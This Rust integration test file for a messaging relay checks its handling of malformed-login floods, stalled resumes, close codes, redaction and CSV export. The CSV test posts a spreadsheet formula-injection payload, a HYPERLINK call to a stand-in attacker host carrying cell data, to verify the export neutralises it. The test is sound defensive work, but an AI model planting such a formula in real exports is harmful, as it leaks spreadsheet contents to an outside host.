//! What an outside probe found about the records the relay writes and the frames it answers:
//! a flood of malformed logins, a resume that never reads, the close handshake, redaction of
//! short bodies, and exports that a spreadsheet would run as formulas.

use std::time::{Duration, Instant};

use fusioncell_client::connection::Ws;
use fusioncell_wire::act_body::RedactBody;
use fusioncell_wire::{ActKind, ChannelId, ClientMsg, ServerMsg};
use futures_util::SinkExt;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::protocol::CloseFrame;
use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;

use crate::harness::*;

fn ch(name: &str) -> ChannelId {
    ChannelId::new(name).expect("channel")
}

fn records_bytes(cell: &TestCell) -> u64 {
    std::fs::metadata(cell.journal_dir().join("records.jsonl"))
        .map(|m| m.len())
        .unwrap_or(0)
}

/// The journal's lines as text.
fn journal_lines(cell: &TestCell) -> Vec<String> {
    std::fs::read_to_string(cell.journal_dir().join("records.jsonl"))
        .expect("records.jsonl")
        .lines()
        .map(str::to_owned)
        .collect()
}

// --- 2. Unauthenticated peers and the journal ---------------------------------------------

/// Every pre-login security record is small whatever the frame, and a flood from one address
/// is journaled a few times per window plus one summary of the rest.
#[tokio::test]
async fn a_flood_of_huge_malformed_logins_adds_a_few_small_records() {
    let cell = TestCell::new(&[]);
    let relay = Relay::start(&cell).await;
    // Settle: the open record and the first checkpoint.
    let _ = client(&cell, &relay, "syria").await;
    let before = records_bytes(&cell);
    let frame = format!(
        r#"{{"type":"login","identity":"{}"}}"#,
        "\u{1b}[31mA".repeat(9_900)
    );
    assert!(frame.len() > 59_000);
    let attempts = 60;
    let started = Instant::now();
    for _ in 0..attempts {
        let mut ws = raw(&cell, &relay).await;
        // The challenge.
        let _ = next(&mut ws, 10).await;
        send_text(&mut ws, frame.clone()).await;
        let (code, _) = expect_close(&mut ws, 10).await;
        assert_eq!(code, 4000);
    }
    let elapsed = started.elapsed();
    relay.stop().await;
    let grown = records_bytes(&cell) - before;
    let lines = journal_lines(&cell);
    let events = security_events(&cell);
    let bad: Vec<_> = events.iter().filter(|(e, _)| e == "bad_login").collect();
    let summaries: Vec<_> = events.iter().filter(|(e, _)| e == "suppressed").collect();
    println!(
        "flood: {attempts} malformed logins of {} bytes in {:.1} s; journal +{grown} bytes \
         ({} bad_login records, {} summaries)",
        frame.len(),
        elapsed.as_secs_f64(),
        bad.len(),
        summaries.len()
    );
    // Bounded records: the frame is described by its length and hash, never repeated.
    let digest = fusioncell_keys::sha256(frame.as_bytes());
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    for (_, reason) in &bad {
        assert!(reason.contains(&frame.len().to_string()), "{reason}");
        assert!(reason.contains(&hex), "{reason}");
    }
    for line in lines.iter().filter(|l| l.contains(r#""kind":"security""#)) {
        assert!(
            line.len() <= 1024,
            "a security record of {} bytes",
            line.len()
        );
    }
    // Throttled per source: at most a few per window, and one summary counts the rest.
    let window = fusioncell_relay::defaults::LOGIN_EVENT_WINDOW;
    let windows = (elapsed.as_secs_f64() / window.as_secs_f64()).ceil() as usize + 1;
    let per = fusioncell_relay::defaults::LOGIN_EVENTS_PER_SOURCE as usize;
    assert!(bad.len() <= per * windows, "{} records", bad.len());
    assert!(!summaries.is_empty() && summaries.len() <= windows);
    let suppressed: usize = summaries
        .iter()
        .map(|(_, reason)| {
            reason
                .split_whitespace()
                .next()
                .and_then(|n| n.parse::<usize>().ok())
                .expect("the summary starts with its count")
        })
        .sum();
    assert_eq!(bad.len() + suppressed, attempts, "every attempt is counted");
    assert!(
        grown <= ((per + 1) * windows * 1024) as u64,
        "the flood added {grown} bytes"
    );
}

// --- 3. A resume that never reads ---------------------------------------------------------

/// Posts `n` bodies of 60 KB: a journal larger than every socket buffer on the way.
async fn large_journal(cell: &TestCell, relay: &Relay, n: usize) {
    let israel = client(cell, relay, "israel").await;
    let body = "z".repeat(60_000);
    for _ in 0..n {
        israel.post(&ch("commerce"), &body).await.expect("posted");
    }
}

/// Subscribes from 0 and does not read.
async fn stuck_resume(cell: &TestCell, relay: &Relay, id: &str) -> Ws {
    let mut ws = raw_login(cell, relay, id).await;
    send_text(&mut ws, ClientMsg::Subscribe { from: Some(0) }.to_json()).await;
    ws
}

/// Reads what `ws` was sent: whether `live` came, and how it ended.
async fn read_out(ws: &mut Ws) -> (bool, Got) {
    let mut live = false;
    loop {
        match next(ws, 30).await {
            Got::Msg(ServerMsg::Live { .. }) => live = true,
            Got::Msg(_) => {}
            end => return (live, end),
        }
    }
}

#[tokio::test]
async fn a_stuck_resume_is_superseded_by_a_newer_session() {
    let cell = TestCell::busy_with(&[("max_sessions_per_identity", "1")]);
    let relay = Relay::start(&cell).await;
    large_journal(&cell, &relay, 200).await;
    let mut stuck = stuck_resume(&cell, &relay, "us").await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let newer = client(&cell, &relay, "us").await;
    let _sub = live(&newer).await;
    let (live, end) = read_out(&mut stuck).await;
    assert!(!live, "the stuck backlog ran to its end: {end:?}");
    assert!(
        matches!(end, Got::Gone | Got::Close(4010, _)),
        "ended with {end:?}"
    );
    relay.stop().await;
}

#[tokio::test]
async fn a_stuck_resume_is_closed_when_idle() {
    let cell = TestCell::busy_with(&[("ping_interval_ms", "500"), ("idle_timeout_ms", "1500")]);
    let relay = Relay::start(&cell).await;
    large_journal(&cell, &relay, 200).await;
    let syria = client(&cell, &relay, "syria").await;
    let mut watch = live(&syria).await;
    let mut stuck = stuck_resume(&cell, &relay, "us").await;
    // `us` goes offline when the relay closes the stuck session.
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut seen_online = false;
    loop {
        assert!(
            Instant::now() < deadline,
            "the stuck session is never closed"
        );
        let left = deadline - Instant::now();
        match tokio::time::timeout(left, watch.next()).await {
            Ok(Some(fusioncell_client::Event::Presence { online })) => {
                let us = online.iter().any(|i| i.as_str() == "us");
                if us {
                    seen_online = true;
                } else if seen_online {
                    break;
                }
            }
            Ok(Some(_)) => {}
            other => panic!("watcher: {other:?}"),
        }
    }
    let (live, end) = read_out(&mut stuck).await;
    assert!(!live, "the stuck backlog ran to its end: {end:?}");
    assert!(
        matches!(end, Got::Gone | Got::Close(1008, _)),
        "ended with {end:?}"
    );
    relay.stop().await;
}

/// A resume that does read gets everything, then `live` (the backlog is still whole).
#[tokio::test]
async fn a_reading_resume_gets_the_whole_backlog_then_live() {
    let cell = TestCell::busy();
    let relay = Relay::start(&cell).await;
    large_journal(&cell, &relay, 40).await;
    let size = journal_records(&cell).len() as u64;
    let mut ws = raw_login(&cell, &relay, "us").await;
    send_text(&mut ws, ClientMsg::Subscribe { from: Some(0) }.to_json()).await;
    let mut seqs = Vec::new();
    loop {
        match next(&mut ws, 20).await {
            Got::Msg(ServerMsg::Deliver { record, .. }) => seqs.push(record.seq),
            Got::Msg(ServerMsg::Live { size: live }) => {
                assert!(live >= size);
                break;
            }
            Got::Msg(_) => {}
            other => panic!("{other:?}"),
        }
    }
    let posts: Vec<u64> = journal_records(&cell)
        .iter()
        .filter(|r| r.act.actor.as_str() == "israel")
        .map(|r| r.seq)
        .collect();
    assert!(posts.iter().all(|s| seqs.contains(s)));
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "in order, once each");
    relay.stop().await;
}

// --- 4. The close handshake ---------------------------------------------------------------

async fn close_with(ws: &mut Ws, code: u16) {
    ws.send(Message::Close(Some(CloseFrame {
        code: CloseCode::from(code),
        reason: "bye".into(),
    })))
    .await
    .expect("close sent");
}

#[tokio::test]
async fn a_client_close_is_answered_and_a_bad_code_gets_1002() {
    let cell = TestCell::new(&[]);
    let relay = Relay::start(&cell).await;
    for (code, answer) in [(1000, 1000), (4321, 4321), (999, 1002), (1005, 1002)] {
        let mut ws = raw_login(&cell, &relay, "syria").await;
        close_with(&mut ws, code).await;
        let (got, _) = expect_close(&mut ws, 5).await;
        assert_eq!(got, answer, "after a close {code}");
    }
    // Before login too.
    let mut ws = raw(&cell, &relay).await;
    let _ = next(&mut ws, 5).await;
    close_with(&mut ws, 1000).await;
    assert_eq!(expect_close(&mut ws, 5).await.0, 1000);
    relay.stop().await;
}

// --- 6. Redaction leaves nothing of the body ----------------------------------------------

#[tokio::test]
async fn redaction_scrubs_a_body_of_every_length_and_the_journal_verifies() {
    let cell = TestCell::busy();
    let relay = Relay::start(&cell).await;
    let israel = client(&cell, &relay, "israel").await;
    let us = client(&cell, &relay, "us").await;
    // `~` appears nowhere else in a journal (keys, hashes and signatures are hex).
    let mut bodies: Vec<String> = (0..=8).map(|n| "~".repeat(n)).collect();
    bodies.push("~".repeat(5000));
    bodies.push("\"~\\".to_owned());
    let mut targets = Vec::new();
    for body in &bodies {
        let posted = israel.post(&ch("diplomacy"), body).await.expect("posted");
        targets.push(posted.cell_seq);
    }
    for &target in &targets {
        let redact = RedactBody {
            target,
            reason: "spill".into(),
        };
        us.act_json(ActKind::Redact, None, &redact)
            .await
            .expect("redacted");
    }
    let lines = journal_lines(&cell);
    for (&target, body) in targets.iter().zip(&bodies) {
        let line = &lines[target as usize];
        assert!(!line.contains("~"), "body {body:?} left in {line}");
        assert!(
            !line.contains(r#""body":"#) || line.contains(r#""body":null"#),
            "{line}"
        );
    }
    // Delivered as redacted, from the journal.
    let syria = client(&cell, &relay, "syria").await;
    let mut resumed = syria.subscribe(Some(targets[0])).await.expect("subscribe");
    for &target in &targets {
        let (record, _) = next_where(&mut resumed, |r| r.seq == target).await;
        assert_eq!(record.body, None, "record {target}");
    }
    relay.stop().await;
    let report = fusioncell_journal::verify(&cell.journal_dir(), None).expect("verifies");
    assert_eq!(report.records as usize, lines.len());
    // The relay restarts on it, and a resume still withholds the bodies.
    let relay = Relay::start(&cell).await;
    let syria = client(&cell, &relay, "syria").await;
    let mut resumed = syria.subscribe(Some(targets[0])).await.expect("subscribe");
    for &target in &targets {
        let (record, _) = next_where(&mut resumed, |r| r.seq == target).await;
        assert_eq!(record.body, None, "record {target} after a restart");
    }
    relay.stop().await;
    // An edit of a scrubbed line is still found: a body put back, or the filler changed.
    let path = cell.journal_dir().join("records.jsonl");
    let good = std::fs::read_to_string(&path).expect("read");
    let lines: Vec<&str> = good.lines().collect();
    let short = lines[targets[0] as usize];
    let edited = short.replacen("  ", "x ", 1);
    assert_ne!(edited, short);
    let put_back = format!(r#"{},"body":"~"}}"#, short.trim_end_matches([' ', '}']));
    for bad in [edited, put_back] {
        let mut all: Vec<String> = lines.iter().map(|l| (*l).to_owned()).collect();
        all[targets[0] as usize] = bad;
        std::fs::write(&path, all.join("\n") + "\n").expect("write");
        assert!(
            fusioncell_journal::verify(&cell.journal_dir(), None).is_err(),
            "an edited scrubbed line verifies"
        );
    }
    std::fs::write(&path, &good).expect("restore");
    fusioncell_journal::verify(&cell.journal_dir(), None).expect("verifies again");
}

// --- 11. Exports a spreadsheet would run ---------------------------------------------------

#[tokio::test]
async fn the_csv_export_neutralises_formulas() {
    let cell = TestCell::busy();
    let relay = Relay::start(&cell).await;
    let israel = client(&cell, &relay, "israel").await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    for body in [formula, "+1", "-1", "@SUM(A1)"] {
        israel.post(&ch("diplomacy"), body).await.expect("posted");
    }
    relay.stop().await;
    let out = std::process::Command::new(fusioncell_bin())
        .args(["audit", "export"])
        .arg(cell.journal_dir())
        .args(["--format", "csv"])
        .output()
        .expect("export runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv_rows(&out.stdout);
    let header = reader.remove(0);
    let body_at = header
        .iter()
        .position(|h| h == "body")
        .expect("body column");
    // Exercise traffic is marked on every row (the default marking: no --config given).
    assert_eq!(header[0], "marking");
    assert!(
        reader
            .iter()
            .all(|r| r[0] == fusioncell_cell::defaults::MARKING),
        "every row is marked"
    );
    let mut seen = 0;
    for row in &reader {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {cell:?}"
            );
        }
        if row[body_at] == format!("'{formula}") {
            seen += 1;
        }
    }
    assert_eq!(seen, 1, "the post is exported, quoted");
}

/// Splits CSV (RFC 4180) into rows of fields.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(bytes);
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}
